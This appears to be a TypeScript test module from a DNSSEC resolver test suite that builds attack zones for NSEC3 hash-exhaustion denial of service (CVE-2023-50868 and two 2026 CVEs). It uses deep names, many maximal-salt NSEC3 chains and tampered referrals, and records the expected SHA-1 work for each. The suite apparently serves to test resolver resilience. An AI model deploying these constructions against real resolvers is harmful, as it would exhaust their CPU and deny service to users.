import { randomBytes } from 'node:crypto';
import { DnsName } from '../../../base/name.js';
import { RrType, type ResourceRecord } from '../../model.js';
import { nsec3Record } from '../chains.js';
import { TestZone } from '../zone.js';
import type { WorkAttack } from './attack.js';
import { answering, rootOver } from './keytrap.js';

/* NSEC3 (CVE-2023-50868): to find the closest encloser each ancestor is hashed, again and again. */

const DEEP = 110;
const deepName = `${'a.'.repeat(DEEP)}evil`;

/** `count` NSEC3 records, each signed, each with a salt of its own that is as long as can be. */
function chains(zone: TestZone, count: number, iterations: number): ResourceRecord[] {
  return Array.from({ length: count }, () => {
    const hash = new Uint8Array(randomBytes(20));
    const salt = new Uint8Array(randomBytes(255));
    return nsec3Record(zone, hash, hash.with(19, (hash[19] ?? 0) ^ 1), [RrType.A], { salt, iterations });
  }).flat();
}

/** A name of many labels in a zone with as many iterations as are still accepted. */
export function deepEncloser(title: string, iterations: number): WorkAttack {
  const zone = new TestZone('evil', [], { nsec3: { iterations } });
  const naive = { sha1: DEEP * (iterations + 1) };
  return { title, zones: [rootOver(zone), zone], name: deepName, type: 'CAA', naive };
}

/** The same with many chains in one denial, so that each ancestor is hashed once for each. */
export function manyChains(title: string, count: number, iterations: number): WorkAttack {
  const zone = new TestZone('evil', [], { nsec3: { iterations: 0 } });
  return {
    title,
    zones: [rootOver(zone), zone],
    tamper: answering(() => ({ rcode: 3, authority: chains(zone, count, iterations) })),
    name: deepName,
    type: 'CAA',
    naive: { sha1: count * DEEP * (iterations + 1) },
  };
}

/** Many NSEC3 records along a referral to a child without DS (CVE-2026-1519, CVE-2026-42923). */
export function onReferral(title: string, count: number, iterations: number, spoiled = false): WorkAttack {
  const child = new TestZone('open.evil', ['www.open.evil 300 IN A 192.0.2.1'], { unsigned: true });
  const zone = new TestZone('evil', ['open.evil 3600 IN NS ns.open.evil'], { nsec3: { iterations: 0 } });
  const spoil = (one: ResourceRecord): ResourceRecord =>
    spoiled && one.type === RrType.RRSIG
      ? { ...one, rdata: one.rdata.with(-20, (one.rdata.at(-20) ?? 0) ^ 1) }
      : one;
  const cut = DnsName.parse('open.evil');
  return {
    title,
    zones: [rootOver(zone), zone, child],
    tamper: (name, type, honest) => {
      const referral = honest.authority.some((one) => one.type === RrType.NS && one.name.equals(cut));
      if (!referral && !(type === RrType.DS && name.equals(cut))) return undefined;
      const ns = honest.authority.filter((one) => one.type === RrType.NS);
      return { ...honest, authority: [...ns, ...chains(zone, count, iterations).map(spoil)] };
    },
    name: 'www.open.evil',
    type: 'A',
    naive: { sha1: count * 3 * (iterations + 1) },
  };
}
